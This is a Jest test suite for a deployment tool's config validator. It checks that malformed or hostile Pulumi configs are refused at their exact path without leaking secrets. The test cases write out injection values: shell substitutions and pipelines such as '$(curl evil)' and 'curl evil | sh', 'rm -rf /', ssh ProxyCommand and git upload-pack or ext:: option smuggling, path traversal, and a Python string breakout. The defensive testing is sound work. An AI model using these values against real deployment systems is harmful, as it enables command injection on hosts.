import { ConfigError, RawConfig, validateConfig } from "../../../components/config";
import { digitalOceanConfig } from "../../support/digitalOceanConfig";
import { labHostsConfig } from "../../support/labHosts";

/**
 * The hostile-config suite: configs a careless user or an attacker with write
 * access to Pulumi.<stack>.yaml could hand berth. Every one must be refused by
 * validateConfig, which runs before any resource is registered, with a
 * problem at its exact config path saying what is allowed there. (The whole
 * program under mocks, for a few of them: program.test.ts.)
 */

/** Marks secret values: no refusal may ever repeat one. */
const SECRET_VALUE = "TOPSECRET-do-not-print-me";

type Config = Record<string, any>;

/** A valid lab config with two apps' worth of hosts, a secret, and a code checkout. */
function labConfig(): Config {
    return {
        hosts: labHostsConfig(),
        loadBalancer: { host: "lb-1" },
        apps: [
            {
                name: "sample",
                domain: "sample.localhost",
                image: { repository: "127.0.0.1:5000/sample", tag: "v1" },
                code: { repository: "git://172.30.0.2/sample.git", ref: "v1.0.0", allowedBranches: ["main"] },
                webPort: 8001,
                hosts: { web: ["web-1", "web-2"], worker: ["worker-1"], beat: ["worker-1"] },
                env: { DJANGO_SETTINGS_MODULE: "sample.settings" },
            },
        ],
        secrets: { sample: { SECRET_KEY: SECRET_VALUE } },
    };
}

/** The prod shape: droplets berth creates, production on. */
function dropletConfig(): Config {
    return { ...digitalOceanConfig(), secrets: { antisocial: { SECRET_KEY: SECRET_VALUE } } };
}

/** A second app beside the lab's, on other hosts' ports unless a case says otherwise. */
function secondApp(overrides: Config = {}): Config {
    return {
        name: "notes", domain: "notes.localhost", image: { repository: "127.0.0.1:5000/notes", tag: "v1" },
        webPort: 8003, hosts: { web: ["web-1"] }, ...overrides,
    };
}

/** A case: what it is, the change to a valid config, the path refused and what the reason says. */
type Case = [description: string, change: (config: Config) => void, path: string, reason: RegExp];

function refusal(config: Config): ConfigError {
    try {
        validateConfig(config as RawConfig);
    } catch (error) {
        if (error instanceof ConfigError) {
            return error;
        }
        throw error;
    }
    throw new Error("the config was accepted");
}

/** Applies a case to a fresh base config and checks its refusal: at the exact path, with the reason, never a secret. */
function expectRefused(base: () => Config, change: (config: Config) => void, path: string, reason: RegExp): void {
    const config = base();
    change(config);
    const error = refusal(config);
    const atPath = error.problems.filter((problem) => problem.propertyPath === path).map((problem) => problem.reason);
    expect({ path, reasons: atPath }).toEqual({ path, reasons: expect.arrayContaining([expect.stringMatching(reason)]) });
    expect(error.message).toContain(`  - ${path}: `);
    expect(error.message).not.toContain(SECRET_VALUE);
}

/** Rows as objects, so each test's title names its case and path. */
function titled(cases: Case[]): { description: string; change: (config: Config) => void; path: string; reason: RegExp }[] {
    return cases.map(([description, change, path, reason]) => ({ description, change, path, reason }));
}

const app = (config: Config): Config => config.apps[0];

const unknownKeys: Case[] = [
    ["a misspelt top-level key (production stays off silently)", (c) => { c.prodution = true; }, "berth:prodution", /^is not a known setting; allowed: berth:production, berth:sshKeyPath, berth:secrets, berth:hosts, berth:loadBalancer, berth:apps, berth:accessories, berth:tls, berth:digitalocean$/],
    ["berth:secret for berth:secrets (the secrets are never delivered)", (c) => { c.secret = { sample: { SECRET_KEY: SECRET_VALUE } }; }, "berth:secret", /^is not a known setting; allowed: berth:production, /],
    ["a top-level key in the wrong case", (c) => { c.loadbalancer = { host: "lb-1" }; }, "berth:loadbalancer", /^is not a known setting/],
    ["a host setting", (c) => { c.hosts[0].role = "web"; }, "berth:hosts[0].role", /^is not a known setting; allowed: name, address, privateAddress, sshPort, sshUser, roles, hostKey$/],
    ["a load balancer setting", (c) => { c.loadBalancer.port = 80; }, "berth:loadBalancer.port", /^is not a known setting; allowed: host, httpPort, publicPort, httpsPort, publicHttpsPort, image$/],
    ["an app setting", (c) => { app(c).webport = 8001; }, "berth:apps[0].webport", /^is not a known setting; allowed: name, domain, image, /],
    ["an image setting", (c) => { app(c).image.digest = "sha256:0"; }, "berth:apps[0].image.digest", /^is not a known setting; allowed: repository, tag$/],
    ["a code setting", (c) => { app(c).code.branch = "main"; }, "berth:apps[0].code.branch", /^is not a known setting; allowed: repository, ref, allowedBranches$/],
    ["an app's host role", (c) => { app(c).hosts.workers = ["worker-1"]; }, "berth:apps[0].hosts.workers", /^is not a known setting; allowed: web, worker, beat$/],
    ["a setting name with a newline, shown quoted", (c) => { app(c)["web\nPort"] = 1; }, 'berth:apps[0]["web\\nPort"]', /^is not a known setting/],
    ["a secret for an app that does not exist", (c) => { c.secrets.smaple = { SECRET_KEY: SECRET_VALUE }; }, "berth:secrets.smaple", /^names no app in berth:apps \(known: sample\)$/],
];

const unknownDropletKeys: Case[] = [
    ["a DigitalOcean setting", (c) => { c.digitalocean.token = "dop_v1_x"; }, "berth:digitalocean.token", /^is not a known setting; allowed: region, /],
    ["a droplet group setting", (c) => { c.digitalocean.droplets[0].tags = ["x"]; }, "berth:digitalocean.droplets[0].tags", /^is not a known setting; allowed: name, count, /],
    ["a DNS setting", (c) => { c.digitalocean.dns = { zone: "example.com", name: "www" }; }, "berth:digitalocean.dns.name", /^is not a known setting; allowed: zone, ttl$/],
    ["a registry setting", (c) => { c.digitalocean.registry = { name: "berth", password: "x" }; }, "berth:digitalocean.registry.password", /^is not a known setting; allowed: name, tier, region, create$/],
];

const wrongTypes: Case[] = [
    ["production as a word", (c) => { c.production = "yes"; }, "berth:production", /^must be true or false \(got "yes"\)$/],
    ["the host list as an object", (c) => { c.hosts = { "web-1": {} }; }, "berth:hosts", /^must be a list \(got an object\)$/],
    ["a host as a string", (c) => { c.hosts[3] = "lb-1"; }, "berth:hosts[3]", /^must be an object \(got "lb-1"\)$/],
    ["a host name as a number", (c) => { c.hosts[0].name = 7; }, "berth:hosts[0].name", /^must be a non-empty string \(got 7\)$/],
    ["an SSH port as a word", (c) => { c.hosts[0].sshPort = "twenty-two"; }, "berth:hosts[0].sshPort", /^must be an integer from 1 to 65535 \(got "twenty-two"\)$/],
    ["roles as a string", (c) => { c.hosts[0].roles = "web"; }, "berth:hosts[0].roles", /^must be a list \(got "web"\)$/],
    ["the load balancer as a list", (c) => { c.loadBalancer = ["lb-1"]; }, "berth:loadBalancer", /^must be an object \(got a list\)$/],
    ["the app list as an object", (c) => { c.apps = { sample: app(c) }; }, "berth:apps", /^must be a list \(got an object\)$/],
    ["code as a URL string", (c) => { app(c).code = "git://172.30.0.2/sample.git"; }, "berth:apps[0].code", /^must be an object \(got "git:/],
    ["settings as a list", (c) => { app(c).env = ["DEBUG=1"]; }, "berth:apps[0].env", /^must be an object \(got a list\)$/],
    ["a setting as an object", (c) => { app(c).env.DEBUG = { on: true }; }, "berth:apps[0].env.DEBUG", /^must be a string \(got an object\)$/],
    ["release tasks as a string", (c) => { app(c).release = "migrate"; }, "berth:apps[0].release", /^must be a list \(got "migrate"\)$/],
    ["web hosts as a string", (c) => { app(c).hosts.web = "web-1"; }, "berth:apps[0].hosts.web", /^must be a list \(got "web-1"\)$/],
    ["processes as a fraction", (c) => { app(c).processes = 2.5; }, "berth:apps[0].processes", /^must be an integer from 1 to 64 \(got 2.5\)$/],
    ["the user as a number", (c) => { app(c).user = 10001; }, "berth:apps[0].user", /^must be a non-empty string \(got 10001\)$/],
    ["the secrets as a list", (c) => { c.secrets = [SECRET_VALUE]; }, "berth:secrets", /^must be an object of apps, each an object of settings: \{app: \{KEY: value\}\} \(got a list\)$/],
    ["an app's secrets as a string", (c) => { c.secrets.sample = SECRET_VALUE; }, "berth:secrets.sample", /^must be an object of settings \{KEY: value\} \(got a string\)$/],
    ["a secret as an object", (c) => { c.secrets.sample.SECRET_KEY = { nested: SECRET_VALUE }; }, "berth:secrets.sample.SECRET_KEY", /^must be a string \(got an object\)$/],
    ["a secret as a list", (c) => { c.secrets.sample.SECRET_KEY = [SECRET_VALUE, SECRET_VALUE]; }, "berth:secrets.sample.SECRET_KEY", /^must be a string \(got a list\)$/],
    ["a secret as null", (c) => { c.secrets.sample.SECRET_KEY = null; }, "berth:secrets.sample.SECRET_KEY", /^must be a string \(got null\)$/],
];

const wrongDropletTypes: Case[] = [
    ["reservedIp as a word", (c) => { c.digitalocean.reservedIp = "no"; }, "berth:digitalocean.reservedIp", /^must be true or false \(got "no"\)$/],
    ["admin networks as a string", (c) => { c.digitalocean.adminCidrs = "203.0.113.0/24"; }, "berth:digitalocean.adminCidrs", /^must be a list \(got "203.0.113.0\/24"\)$/],
    ["a group count as a word", (c) => { c.digitalocean.droplets[0].count = "two"; }, "berth:digitalocean.droplets[0].count", /^must be an integer from 0 to 50 \(got "two"\)$/],
];

const shellMetacharacters: Case[] = [
    ["a host name with a command", (c) => { c.hosts[0].name = "web-1;reboot"; }, "berth:hosts[0].name", /^must be lowercase letters, digits and '-'/],
    ["an address with an ssh option", (c) => { c.hosts[0].address = "127.0.0.1 -oProxyCommand=sh"; }, "berth:hosts[0].address", /^must be an IPv4 address, an IPv6 address or a DNS name/],
    ["a private address with a substitution", (c) => { c.hosts[0].privateAddress = "$(curl evil)"; }, "berth:hosts[0].privateAddress", /^must be an IPv4 address/],
    ["an SSH user with a space and an option", (c) => { c.hosts[0].sshUser = "root -oProxyCommand=touch"; }, "berth:hosts[0].sshUser", /^must be a user name: lowercase letters, digits, '_' and '-', starting with a letter or '_', at most 32 characters \(got "root -oProxyCommand=touch"\)$/],
    ["an SSH user that is an option", (c) => { c.hosts[0].sshUser = "-oProxyCommand=touch"; }, "berth:hosts[0].sshUser", /^must be a user name/],
    ["an SSH user with a newline", (c) => { c.hosts[0].sshUser = "root\nx"; }, "berth:hosts[0].sshUser", /^must be a user name/],
    ["an SSH user with an '@' (another host in the ssh:// URL)", (c) => { c.hosts[0].sshUser = "root@evil.example"; }, "berth:hosts[0].sshUser", /^must be a user name/],
    ["a role with a command", (c) => { c.hosts[0].roles = ["web;id"]; }, "berth:hosts[0].roles[0]", /^must be one of web, worker, beat, loadbalancer, data/],
    ["a load balancer host with backticks", (c) => { c.loadBalancer.host = "lb-1`id`"; }, "berth:loadBalancer.host", /^names no host in berth:hosts/],
    ["an nginx image with a command", (c) => { c.loadBalancer.image = "nginx; rm -rf /"; }, "berth:loadBalancer.image", /^must be an image reference: repository\[:tag\] or repository@sha256:<digest>, like nginx:1.27-bookworm \(got "nginx; rm -rf \/"\)$/],
    ["an nginx image that is an option", (c) => { c.loadBalancer.image = "--privileged"; }, "berth:loadBalancer.image", /^must be an image reference/],
    ["an app named after berth's nginx directory", (c) => { app(c).name = "nginx"; }, "berth:apps[0].name", /^must not be "nginx" or "tls" or "accessories": berth keeps nginx's own files, certificates and accessories' secrets in \/srv\/berth\/nginx/],
    ["an app name with a substitution", (c) => { app(c).name = "sample$(id)"; }, "berth:apps[0].name", /^must be lowercase letters, digits and '-'/],
    ["a domain with a semicolon", (c) => { app(c).domain = "sample.localhost;"; }, "berth:apps[0].domain", /^must be an IPv4 address, an IPv6 address or a DNS name/],
    ["an image repository with an option", (c) => { app(c).image.repository = "registry/app --privileged"; }, "berth:apps[0].image.repository", /^must be an image repository/],
    ["an image tag with a command", (c) => { app(c).image.tag = "v1&&id"; }, "berth:apps[0].image.tag", /^must be an image tag/],
    ["a repository with a command after it", (c) => { app(c).code.repository = "https://example.com/a.git; id"; }, "berth:apps[0].code.repository", /^must be a git URL: https:\/\/host\/path, ssh:\/\/\[user@\]host\[:port\]\/path, git:\/\/host\/path, \[user@\]host:path, file:\/\/\/path or an absolute path/],
    ["a repository that is a git option", (c) => { app(c).code.repository = "--upload-pack=touch /tmp/pwned"; }, "berth:apps[0].code.repository", /^must not start with "-": git would read it as an option/],
    ["a repository on git's ext:: transport (runs a command)", (c) => { app(c).code.repository = "ext::sh -c touch% /tmp/pwned"; }, "berth:apps[0].code.repository", /^must be a git URL/],
    ["a repository path with '..'", (c) => { app(c).code.repository = "file:///srv/git/../../etc"; }, "berth:apps[0].code.repository", /without '\.' or '\.\.' segments/],
    ["a token and user in an HTTPS URL (it would sit in the state and in errors)", (c) => { app(c).code.repository = `https://deploy:${SECRET_VALUE}@github.com/example/sample.git`; }, "berth:apps[0].code.repository",
        /^must not carry credentials \(user:password@ or token@ in the URL\): they would be stored in the stack's state and shown in errors; give each host a deploy key instead .* or a git credential helper on the host .* \(got "https:\/\/\*\*\*@github.com\/example\/sample.git"\)$/],
    ["a bare token in an HTTPS URL", (c) => { app(c).code.repository = `https://${SECRET_VALUE}@github.com/example/sample.git`; }, "berth:apps[0].code.repository", /^must not carry credentials/],
    ["a password in an SSH URL", (c) => { app(c).code.repository = `ssh://git:${SECRET_VALUE}@github.com/example/sample.git`; }, "berth:apps[0].code.repository", /^must not carry credentials/],
    ["a password in an scp-like URL", (c) => { app(c).code.repository = `git:${SECRET_VALUE}@github.com:example/sample.git`; }, "berth:apps[0].code.repository", /^must not carry credentials/],
    ["a repository with a newline", (c) => { app(c).code.repository = "git://172.30.0.2/sample.git\nid"; }, "berth:apps[0].code.repository", /^must be a git URL/],
    ["a code ref with a substitution", (c) => { app(c).code.ref = "v1$(id)"; }, "berth:apps[0].code.ref", /^must be a tag \(like v1.4.2 or tags\/<name>\)/],
    ["a tag ref with '..'", (c) => { app(c).code.ref = "tags/a..b"; }, "berth:apps[0].code.ref", /^must be a tag \(like v1\.4\.2 or tags\/<name>\)/],
    ["a branch that is an option", (c) => { app(c).code.allowedBranches = ["-main"]; }, "berth:apps[0].code.allowedBranches[0]", /^must be a git branch name: letters, digits and '-', '_', '.', '\/', '\+', not starting with '-' or '.'/],
    ["a branch with '..'", (c) => { app(c).code.allowedBranches = ["feature/../x"]; }, "berth:apps[0].code.allowedBranches[0]", /^must be a git branch name/],
    ["a branch with a space", (c) => { app(c).code.allowedBranches = ["main branch"]; }, "berth:apps[0].code.allowedBranches[0]", /^must be a git branch name/],
    ["a branch with a newline", (c) => { app(c).code.allowedBranches = ["main\nid"]; }, "berth:apps[0].code.allowedBranches[0]", /^must be a git branch name/],
    ["a WSGI module with Python after it", (c) => { app(c).wsgiModule = "sample.wsgi:application; import os"; }, "berth:apps[0].wsgiModule", /^must be a Python module path/],
    ["a release task with a pipeline", (c) => { app(c).release = ["migrate; curl evil | sh"]; }, "berth:apps[0].release[0]", /^must be an entrypoint command such as migrate, collectstatic or "manage clearsessions": a lowercase name, then words of letters, digits and/],
    ["a release task argument with a substitution", (c) => { app(c).release = ["migrate", "manage shell -c $(id)"]; }, "berth:apps[0].release[1]", /^must be an entrypoint command/],
    ["a health path that breaks out of the health check's Python string", (c) => { app(c).healthPath = '/healthz"); import os; os.system("id'; }, "berth:apps[0].healthPath", /^must be a URL path: '\/' and segments of letters, digits, '-', '\.', '_', '~' or %XX escapes/],
    ["a health path with a space", (c) => { app(c).healthPath = "/health z"; }, "berth:apps[0].healthPath", /^must be a URL path/],
    ["a health path with '..'", (c) => { app(c).healthPath = "/static/../admin/"; }, "berth:apps[0].healthPath", /without '\.' or '\.\.' segments/],
    ["a health path with a newline", (c) => { app(c).healthPath = "/healthz\n"; }, "berth:apps[0].healthPath", /^must be a URL path/],
    ["a setting name with a space", (c) => { app(c).env["A B"] = "x"; }, 'berth:apps[0].env["A B"]', /^is not a valid environment variable name/],
    ["a setting name that runs a command", (c) => { app(c).env["X;touch /tmp/pwned;Y"] = "x"; }, 'berth:apps[0].env["X;touch /tmp/pwned;Y"]', /^is not a valid environment variable name/],
    ["a setting value with a NUL", (c) => { app(c).env.DEBUG = "a\u0000b"; }, "berth:apps[0].env.DEBUG", /^must not contain a NUL character/],
    ["a user with a command", (c) => { app(c).user = "0:0;id"; }, "berth:apps[0].user", /^must be numeric ids "uid:gid"/],
    ["a swap mode that is not one", (c) => { app(c).swap = "rolling"; }, "berth:apps[0].swap", /^must be one of blue-green, drain-first/],
    ["a reload mode with a command", (c) => { app(c).reload = "touch;id"; }, "berth:apps[0].reload", /^must be one of touch, chain/],
    ["a secret name that runs a command in every container", (c) => { c.secrets.sample["A=1; touch /tmp/pwned; B"] = SECRET_VALUE; }, 'berth:secrets.sample["A=1; touch /tmp/pwned; B"]', /^is not a valid environment variable name: letters, digits and '_', not starting with a digit$/],
    ["a secret name starting with a digit", (c) => { c.secrets.sample["1ST"] = SECRET_VALUE; }, "berth:secrets.sample.1ST", /^is not a valid environment variable name/],
    ["a secret value with a NUL", (c) => { c.secrets.sample.SECRET_KEY = `${SECRET_VALUE}\u0000`; }, "berth:secrets.sample.SECRET_KEY", /^must not contain a NUL character/],
];

const dropletShellMetacharacters: Case[] = [
    ["a region with a command", (c) => { c.digitalocean.region = "fra1;id"; }, "berth:digitalocean.region", /^must be a DigitalOcean region slug/],
    ["a VPC range with a trailing word", (c) => { c.digitalocean.vpcIpRange = "10.10.0.0/20 x"; }, "berth:digitalocean.vpcIpRange", /^must be a private IPv4 range/],
    ["an SSH public key with a command as its comment", (c) => { c.digitalocean.sshPublicKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBerth $(id)"; }, "berth:digitalocean.sshPublicKey", /^must be one OpenSSH public key line/],
    ["an image slug with a command", (c) => { c.digitalocean.image = "debian-12-x64 && id"; }, "berth:digitalocean.image", /^must be a DigitalOcean image slug/],
    ["a group name with a command", (c) => { c.digitalocean.droplets[0].name = "web;id"; }, "berth:digitalocean.droplets[0].name", /^must be lowercase letters/],
    ["a size with a pipe", (c) => { c.digitalocean.droplets[0].size = "s-1vcpu-2gb|x"; }, "berth:digitalocean.droplets[0].size", /^must be a droplet size slug/],
    ["a DNS zone with a semicolon", (c) => { c.digitalocean.dns = { zone: "example.com;" }; }, "berth:digitalocean.dns.zone", /^must be a domain hosted on DigitalOcean/],
    ["a registry name with a substitution", (c) => { c.digitalocean.registry = { name: "berth$(id)" }; }, "berth:digitalocean.registry.name", /^must be lowercase letters, digits and '-'/],
    ["an admin network with a command", (c) => { c.digitalocean.adminCidrs = ["203.0.113.0/24;id"]; }, "berth:digitalocean.adminCidrs[0]", /^must be a CIDR/],
    ["an IPv6 admin network that is not an address", (c) => { c.digitalocean.adminCidrs = [":::::/64"]; }, "berth:digitalocean.adminCidrs[0]", /^must be a CIDR/],
];

const outOfRange: Case[] = [
    ["SSH port 0", (c) => { c.hosts[0].sshPort = 0; }, "berth:hosts[0].sshPort", /^must be an integer from 1 to 65535 \(got 0\)$/],
    ["SSH port 65536", (c) => { c.hosts[0].sshPort = 65536; }, "berth:hosts[0].sshPort", /^must be an integer from 1 to 65535 \(got 65536\)$/],
    ["a negative nginx port", (c) => { c.loadBalancer.httpPort = -1; }, "berth:loadBalancer.httpPort", /^must be an integer from 1 to 65535/],
    ["a public port above 65535", (c) => { c.loadBalancer.publicPort = 70000; }, "berth:loadBalancer.publicPort", /^must be an integer from 1 to 65535/],
    ["a privileged web port", (c) => { app(c).webPort = 80; }, "berth:apps[0].webPort", /^must be an integer from 1024 to 65534 \(got 80\)$/],
    ["a web port with no second port after it", (c) => { app(c).webPort = 65535; }, "berth:apps[0].webPort", /^must be an integer from 1024 to 65534 \(got 65535\)$/],
    ["no uWSGI processes", (c) => { app(c).processes = 0; }, "berth:apps[0].processes", /^must be an integer from 1 to 64/],
    ["65 threads", (c) => { app(c).threads = 65; }, "berth:apps[0].threads", /^must be an integer from 1 to 64/],
    ["a one-second health timeout", (c) => { app(c).healthTimeoutSeconds = 1; }, "berth:apps[0].healthTimeoutSeconds", /^must be an integer from 5 to 600/],
    ["a stop grace above ten minutes", (c) => { app(c).stopGraceSeconds = 601; }, "berth:apps[0].stopGraceSeconds", /^must be an integer from 0 to 600/],
    ["release tasks run on a whim", (c) => { app(c).releaseWhen = "sometimes"; }, "berth:apps[0].releaseWhen", /^must be one of changed, always/],
    ["keeping only the deployed release (no rollback left)", (c) => { app(c).keepReleases = 1; }, "berth:apps[0].keepReleases", /^must be an integer from 2 to 100/],
    ["a count of releases to keep as text", (c) => { app(c).keepReleases = "5; rm -rf /"; }, "berth:apps[0].keepReleases", /^must be an integer from 2 to 100/],
    ["32 MiB of memory", (c) => { app(c).memoryMb = 32; }, "berth:apps[0].memoryMb", /^must be an integer from 64 to 65536/],
    ["a worker concurrency of 1000", (c) => { app(c).workerConcurrency = 1000; }, "berth:apps[0].workerConcurrency", /^must be an integer from 1 to 64/],
    ["a uid above 2^31-1", (c) => { app(c).user = "4294967296:0"; }, "berth:apps[0].user", /^ids must be at most 2147483647/],
];

const dropletOutOfRange: Case[] = [
    ["a group of 51 droplets", (c) => { c.digitalocean.droplets[0].count = 51; }, "berth:digitalocean.droplets[0].count", /^must be an integer from 0 to 50 \(got 51\)$/],
    ["a private port above 65535", (c) => { c.digitalocean.droplets[1].privatePorts = [70000]; }, "berth:digitalocean.droplets[1].privatePorts[0]", /^must be an integer from 1 to 65535/],
    ["a DNS TTL of 10 s", (c) => { c.digitalocean.dns = { zone: "example.com", ttl: 10 }; }, "berth:digitalocean.dns.ttl", /^must be an integer from 30 to 86400/],
];

const duplicates: Case[] = [
    ["two hosts of one name", (c) => { c.hosts[1].name = "web-1"; }, "berth:hosts[1].name", /^duplicates host "web-1"; host names must be unique$/],
    ["two hosts on one SSH endpoint (one Docker engine)", (c) => { c.hosts[1].sshPort = 2201; }, "berth:hosts[1].address", /^reaches the same SSH endpoint as berth:hosts\[0\] \(127\.0\.0\.1:2201\)/],
    ["a role listed twice", (c) => { c.hosts[0].roles = ["web", "web"]; }, "berth:hosts[0].roles[1]", /^lists the role "web" twice$/],
    ["two apps of one name", (c) => { c.apps.push(secondApp({ name: "sample" })); }, "berth:apps[1].name", /^duplicates app "sample"; app names must be unique$/],
    ["two apps on one domain", (c) => { c.apps.push(secondApp({ domain: "sample.localhost" })); }, "berth:apps[1].domain", /^duplicates the domain of berth:apps\[0\] \("sample.localhost"\)/],
    ["two apps on one port of a host", (c) => { c.apps.push(secondApp({ webPort: 8001 })); }, "berth:apps[1].webPort", /^port 8001 on host "web-1" is already used by app "sample"/],
    ["an app on the other app's second port", (c) => { c.apps.push(secondApp({ webPort: 8002 })); }, "berth:apps[1].webPort", /^port 8002 on host "web-1" is already used by app "sample"; an app's web containers use webPort and webPort \+ 1/],
    ["a web host listed twice", (c) => { app(c).hosts.web = ["web-1", "web-1"]; }, "berth:apps[0].hosts.web[1]", /^lists host "web-1" twice$/],
];

const dropletDuplicates: Case[] = [
    ["two droplet groups of one name", (c) => { c.digitalocean.droplets[1].name = "web"; }, "berth:digitalocean.droplets[1].name", /^duplicates droplet group "web"/],
    ["a listed host under a droplet's name", (c) => { c.hosts = [{ name: "web-1", address: "10.10.0.50", roles: ["data"] }]; }, "berth:hosts[0].name", /^duplicates the droplet "web-1"/],
];

const unreachableReferences: Case[] = [
    ["an app on a host that does not exist", (c) => { app(c).hosts.web = ["web-1", "web-9"]; }, "berth:apps[0].hosts.web[1]", /^names no host in berth:hosts \(known: web-1, web-2, worker-1, lb-1\)$/],
    ["a beat host not in the hosts", (c) => { app(c).hosts.beat = ["beat-1"]; }, "berth:apps[0].hosts.beat[0]", /^names no host in berth:hosts/],
    ["a beat host without the role", (c) => { app(c).hosts.beat = ["web-1"]; }, "berth:apps[0].hosts.beat[0]", /^host "web-1" lacks the role "beat" \(it has: web\)$/],
    ["a worker on the load balancer", (c) => { app(c).hosts.worker = ["lb-1"]; }, "berth:apps[0].hosts.worker[0]", /^host "lb-1" lacks the role "worker"/],
    ["the load balancer on a host without the role", (c) => { c.loadBalancer.host = "web-1"; }, "berth:loadBalancer.host", /^host "web-1" lacks the role "loadbalancer" \(it has: web\)$/],
    ["the load balancer on a host that does not exist", (c) => { c.loadBalancer.host = "lb-9"; }, "berth:loadBalancer.host", /^names no host in berth:hosts/],
];

const dropletReferences: Case[] = [
    ["a domain outside the DNS zone", (c) => { c.digitalocean.dns = { zone: "example.org" }; }, "berth:apps[0].domain", /^must be inside the DNS zone example.org/],
    ["an image in another account's registry", (c) => { c.digitalocean.registry = { name: "other" }; }, "berth:apps[0].image.repository", /^is in the registry "berth", but the hosts log in to "other"/],
];

const production: Case[] = [
    ...["latest", "main", "master", "stable", "edge", "dev", "nightly", "release"].map((tag): Case => [
        `the moving tag ${tag}`, (c) => { app(c).image.tag = tag; }, "berth:apps[0].image.tag",
        new RegExp(`^must be a versioned tag in a production stack: a version such as v1\\.4\\.2 or 2026\\.11\\.1 \\(optionally with a suffix like -rc1\\), or a commit hash of 7 to 40 hex digits \\(optionally sha-<hash>\\); "${tag}" is a name that moves, and a rollback needs a version to go back to$`),
    ]),
    ["two halves of IPv4 that open SSH to the internet", (c) => { c.digitalocean.adminCidrs = ["0.0.0.0/1", "128.0.0.0/1"]; }, "berth:digitalocean.adminCidrs",
        /^must not open SSH to the whole internet: together 0\.0\.0\.0\/1, 128\.0\.0\.0\/1 cover every IPv4 address; every droplet takes root logins with berth's key, so list only the networks you deploy from$/],
    ["two halves of IPv6", (c) => { c.digitalocean.adminCidrs = ["203.0.113.0/24", "::/1", "8000::/1"]; }, "berth:digitalocean.adminCidrs", /^must not open SSH to the whole internet: together ::\/1, 8000::\/1 cover every IPv6 address/],
    ["quarters and a half of IPv4, unordered", (c) => { c.digitalocean.adminCidrs = ["128.0.0.0/1", "64.0.0.0/2", "0.0.0.0/2"]; }, "berth:digitalocean.adminCidrs", /cover every IPv4 address/],
    ["the whole IPv4 internet", (c) => { c.digitalocean.adminCidrs = ["0.0.0.0/0"]; }, "berth:digitalocean.adminCidrs[0]", /^must not open SSH to the whole internet \(0\.0\.0\.0\/0\)/],
];

describe("a hostile lab config is refused before any resource, at its path", () => {
    describe.each([
        ["unknown keys", unknownKeys],
        ["wrong types", wrongTypes],
        ["shell metacharacters", shellMetacharacters],
        ["out-of-range numbers", outOfRange],
        ["duplicate names", duplicates],
        ["unreachable references", unreachableReferences],
    ])("%s", (_, cases) => {
        it.each(titled(cases))("$description → $path", ({ change, path, reason }) => expectRefused(labConfig, change, path, reason));
    });
});

describe("a hostile DigitalOcean (production) config is refused before any resource, at its path", () => {
    describe.each([
        ["unknown keys", unknownDropletKeys],
        ["wrong types", wrongDropletTypes],
        ["shell metacharacters", dropletShellMetacharacters],
        ["out-of-range numbers", dropletOutOfRange],
        ["duplicate names", dropletDuplicates],
        ["references", dropletReferences],
        ["production rules", production],
    ])("%s", (_, cases) => {
        it.each(titled(cases))("$description → $path", ({ change, path, reason }) => expectRefused(dropletConfig, change, path, reason));
    });
});

describe("the suite's base configs", () => {
    it("are valid, so every refusal above comes from its one change", () => {
        expect(() => validateConfig(labConfig() as RawConfig)).not.toThrow();
        expect(() => validateConfig(dropletConfig() as RawConfig)).not.toThrow();
    });

    it("hold enough cases", () => {
        const all = [
            unknownKeys, wrongTypes, shellMetacharacters, outOfRange, duplicates, unreachableReferences,
            unknownDropletKeys, wrongDropletTypes, dropletShellMetacharacters, dropletOutOfRange, dropletDuplicates, dropletReferences, production,
        ].flat();
        expect(all.length).toBeGreaterThanOrEqual(60);
        // One case per description: a table row copied without changing it would test nothing new.
        expect(new Set(all.map(([description]) => description)).size).toBe(all.length);
    });
});
